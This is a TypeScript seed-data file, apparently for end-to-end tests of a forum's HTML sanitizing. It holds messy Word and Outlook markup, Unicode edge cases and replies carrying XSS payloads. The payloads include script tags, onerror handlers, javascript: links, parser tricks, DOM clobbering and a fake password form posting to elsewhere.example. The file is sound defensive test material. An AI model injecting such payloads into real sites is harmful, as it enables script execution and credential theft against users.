/**
 * Old and unfriendly posts, as years of copy and paste and a few attackers leave them. Harmless to run: whoever
 * executes one of the scripts only finds `window.__xss` set, which the journeys look for.
 */
import { ask, re, talk } from './posts.ts';
import type { SeedDiscussion } from './posts.ts';

const word = `<div class="ExternalClass3F2504E04F8911D39A0C0305E82C3301"><p class="MsoNormal" style="margin:0cm 0cm 0pt"><span lang="EN-US" style="font-family:&quot;Calibri&quot;,&quot;sans-serif&quot;;color:#1F497D;font-size:11pt">Dear all,<o:p></o:p></span></p><p class="MsoNormal"><span style="color:#1F497D"><o:p>&nbsp;</o:p></span></p><!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--><p class="MsoListParagraph" style="text-indent:-18pt"><span style="font-family:Symbol">·<span style="font:7pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span>the stock count starts on <b style="mso-bidi-font-weight:normal">Saturday</b></p><p class="MsoListParagraph" style="text-indent:-18pt"><span style="font-family:Symbol">·</span>bring the <font color="#ff0000" size="5" face="Comic Sans MS">red</font> lists</p><table class="MsoNormalTable" border="1" cellspacing="0" width="900"><tbody><tr><td width="450" valign="top"><p class="MsoNormal">Hall</p></td><td width="450"><p class="MsoNormal">Team</p></td></tr><tr><td>North</td><td>Night shift</td></tr></tbody></table></div>`;

const outlook = `<div class="ExternalClassA87FF679A2F3E71D9181A67B7542122C"><div style="border:none;border-top:solid #B5C4DF 1.0pt;padding:3.0pt 0cm 0cm 0cm"><b>From:</b> Henrik Aas<br><b>Sent:</b> Friday, 4:52 PM<br><b>To:</b> Plant Oslo<br><b>Subject:</b> RE: RE: FW: compressor</div><p>See below.</p><blockquote style="border-left:#000000 2px solid;margin-left:5px"><p>&gt; Is the spare compressor still in hall 2?</p><blockquote><p>&gt;&gt; I think it was lent to the pump team.</p></blockquote></blockquote><hr><p style="font-size:7pt;color:gray">This message may contain confidential information.</p></div>`;

const attacks: readonly [by: string, body: string][] = [
  ['emre', '<p>Script</p><script>window.__xss=1</script>'],
  ['ivan', '<p>Image <img src="x" onerror="window.__xss=1"> that fails</p>'],
  ['ben', '<p><a href="javascript:window.__xss=1">A link</a> and <a href=" java\nscript:window.__xss=1">another</a></p>'],
  ['viktor', '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe><p>Frame</p>'],
  ['hana', '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999" onclick="window.__xss=1">Covers the page</p>'],
  ['chidi', '<svg><animate onbegin="window.__xss=1" attributeName="x" dur="1s"></animate></svg><math><mtext><style><img src=x onerror="window.__xss=1"></style></mtext></math><p>Vector</p>'],
  ['lars', '<style>body{display:none!important}</style><link rel="stylesheet" href="/nowhere.css"><base href="https://elsewhere.example/"><p>Style</p>'],
  ['samir', '<form action="https://elsewhere.example/collect"><input name="password" type="password"><button>Sign in again</button></form>'],
  ['zoe', '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/"><object data="data:text/html,<script>window.__xss=1</script>"></object><p>Refresh</p>'],
  ['noah', '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></p></noscript><p>Parser trick</p>'],
  ['tamar', '<p id="location" name="cookie">Clobbers</p><img name="getElementById" src="https://elsewhere.example/pixel.gif" alt="far away">']
];

export const veryLongTitle = 'Which of the following five ways of writing the delivery address on a package that goes to a customer in a free zone, is unpacked there by a forwarder, repacked and then sent on to the end user in a second country is right, and who in our company decides?';

export const messyPosts: readonly SeedDiscussion[] = [
  talk('FW: stock count', 'henrik', '420d', word, { category: 'Production and quality', likes: 1 },
    re('jakub', '1d', outlook)),
  ask('Which characters do old posts survive?', 'chidi', '52d',
    '<p>Less than 5 &lt; 6, ampersand &amp;, quotes "double" \'single\', an emoji 👩‍🔧, a zero&#8203;width space, a family 👨‍👩‍👧‍👦, Zalgo h̸e̵l̷l̶o, Arabic سلام in the middle, and a path C:\\temp\\[x].</p>',
    { category: 'IT and tools', likes: 3 },
    ...attacks.map(([by, body], index) => re(by, `${index + 1}h`, body))),
  ask('<b>Bold?</b> & "quoted" titles: are they shown as typed?', 'chidi', '27d', 'Just looking at the title of this one.', { category: 'IT and tools', likes: 2 },
    re('moderator', '2h', 'They should be: a title is text, never HTML.', { likes: 4, accepted: true })),
  ask(veryLongTitle, 'peter', '36d', 'Sorry for the title. The short answer is probably "ask legal".', { category: 'Customs and logistics', likes: 2 },
    re('amara', '3h', 'The forwarder is the consignee, the end user is named in the second line. And yes: ask us.', { likes: 5, accepted: true }))
];
